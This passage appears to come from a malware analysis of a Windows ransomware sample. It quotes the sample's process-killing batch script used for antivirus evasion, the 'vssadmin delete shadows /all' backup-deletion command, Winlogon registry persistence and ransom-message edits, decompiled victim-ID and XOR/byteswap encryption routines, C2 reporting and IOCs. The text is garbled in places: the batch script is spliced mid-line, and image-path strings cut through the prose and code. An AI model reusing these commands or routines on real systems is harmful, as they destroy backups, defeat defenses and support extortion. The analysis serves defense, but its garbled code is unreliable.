Then it creates a batch file of name w.bat and execute it to kill all the specified processes, this is for antivirus and sandbox evasion.You can see the batch script below.

SetLocal EnableDelayedExpansion EnableExtensions
Set WinTitle=%Random%%Random%
Title %WinTitle%
For /F "tokens=2 skip=2 delims=," %%P In ('tasklist /FI "WINDOWTITLE eq %WinTitle%" /FO CSV') Do (Set MyPID=%%~P)
Title %~n0
Set WhiteList=Microsoft.ActiveDirectory.WebServices.exe:cmd.exe:find.exe:conhost.exe:explorer.exe:ctfmon.exe:dllhost.exe:lsass.exe:services.exe:smss.exe:tasklist.exe:winlogon.exe:wmiprvse.exe:msdts.exe:bfsvc.exe:AdapterTroubleshooter.exe:alg.exe:dwm.exe:issch.exe:rundll32.exe:spoolsv.exe:wininit.exe:wmiprvse.exe:wudfhost.exe:taskmgr.exe:rdpclip.exe:logonui.exe:lsm.exe:spoolsv.exe:dwm.exe:dfssvc.exe:csrss.exe:svchost.exe:59F6B4DF10330000_59F6B4E800000000.exe:=5 delims=," %%p In ('tasklist /FO CSV') Do (Echo :!ProcList!|Find /I ":%%~p:">nul||Set ProcList=%%~p:!ProcList!)
For /F "tokens=1,* delims=:" %%C In ("!ProcList!") Do (
If Not "%%C"=="" (
Echo :!WhiteList!|Find /I ":%%C:">nul||Call :Kill "%%C"
Set ProcList=%%D
GoTo Compare
If "%~1"=="cmd.exe" (
TaskKill /F /FI "PID ne %MyPID%" /FI "IMAGENAME eq cmd.exe"
) Else (
TaskKill /F /IM "%~1"
del W.bat
Exit /B

After processes termination, It calls DialogBoxParamA windows API.
It is abusing windows API to execute malicious procedure.

You can see the below code.

Fig2 : DialogBoxParamA function call

Here we have callback function for dialog box, so we will not skip this API.
Let's look into the callback function.
Here we have multiple cases, in first case it is playing with registry.

First it ShellExecute the following command to delete backup storage.
"vssadmin delete shadows /all"
After that it creates a "Hacked" subkey in the following registry key.
"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon"

Fig3 : Storing victim id in registryBy default it is initializing value of "Hacked" as "SfplHinIptOwnboa".
This is unique victim's id and it is very useful in encryption process, this value is changes and reassign to registry later.

After that, It will modify below subkeys and values of the same registry key.

LegalNoticeCaption = "Attention!!! Your files are encrypted !!!"
LegalNoticeText = "To recover files, follow the prompts in the text file "Readme""
Userinit = "C:\Windows\system32\userinit.exe, C:\Windows\bfsvcm.exe"

This is for displaying message on logon screen of user's system.

Fig4 : Logon screen

You can see the registry of my infected system.

Fig5 : Registry of infected system

Encryption Process :

After the above environment setup, it creates victim's id and store it into "Hacked" registry mentioned above.
Code for creating unique victim's id is :unsigned int sub_401AC7()
  unsigned int v0; // eax@1

  v0 = dword_40C86F;
  if ( !dword_40C86F )
    v0 = GetTickCount();
    dword_40C86F = v0;
  dword_40C86F = 16807 * (v0 % 0x1F31D) - 2836 * (v0 / 0x1F31D);
  return dword_40C86F % 0x64u;

After creating and assigning id to registry, the ransomware will send the base64 encoded victim information to the command and control server.

Fig6 : Packet sent to C2 server

The IP address of the server is 46.32.17[.]222 and the format of the information sent to server is.
Victim_ID | Operating_System | System | Malware_Location

When the server get this information, it sends huge data in response to that.

Fig7 : Server response after getting victim's info

This data is unique and depends on the victim's information and it plays a major role in encryption process.The encryption algorithm is very simple, it just XOR and ByteSwapping of file data with data received from server.
You can see the encryption algorithm used by this ransomware below.

unsigned __int32 __stdcall sub_401865(int a1, unsigned int a2)
  int v2; // ecx@1
  int v3; // edx@1
  int v4; // ebx@1
  int v5;// esi@1
  int v6; // edi@1
  unsigned int v7; // ecx@5
  int v8; // edx@5
  int v9; // ebx@5
  int v10; // esi@5
  int v11; // edi@5
  int v12; // eax@6
  unsigned __int32 result; // eax@6

  v2 = 2 * (a2 >> 2);
  v3 = dword_40D83C;
  v4 = dword_40D5B0 + dword_40D83C;
  v5 = a1;
  v6 = a1;
    *(_DWORD *)v6 = *(_DWORD *)v3 ^ *(_DWORD *)v5;
    v5 += 2;
    v6 += 2;
    v3 += 4;if ( v3 == v4 )
      v3 = dword_40D83C;
  while ( v2 );
  v7 = a2 >> 2;
  v8 = dword_40D83C;
  v9 = dword_40D5B0 + dword_40D83C;
  v10 = a1;
  v11 = a1;
    v12 = *(_DWORD *)v10;
    v10 += 4;
    v12 =__ROL4__(v12, 5);
    result = _byteswap_ulong(*(_DWORD *)v8 ^ v12);
    *(_DWORD *)v11 = result;
    v11 += 4;
    v8 += 4;
    if ( v8 == v9 )
      v8 = dword_40D83C;
  while ( v7 );
  return result;

It is very hard to make decryption tool for thisransomware because the data is changing as per the victim id and also we don't know the server side algorithm.
It skips first 4 bytes and last 6 bytes of every file and encrypt rest of the data.

After the encryption, it will rename each file in the following format.
File extension : [base64 of filename] ID [Victim ID].lock

It drops ReadMe.TxT in C:\ which is a ransom note, makes run entry for the same to execute it on startup.
Microsoft Windows Operating System = "C:\Windows\notepad.exe C:\ReadMe.TxT"

Fig8 : Ransom note (ReadMe.TxT)

IOCs :

Hash  : 1df3d4da1ef11373966f54a6d67c38a223229f272438e1c6ec7cb4c1ea3ff3e2
CnC   : 46.32.17[.]222
Email : enigmax_x@aol[.]com andenigmax_x@bitmessage[.]ch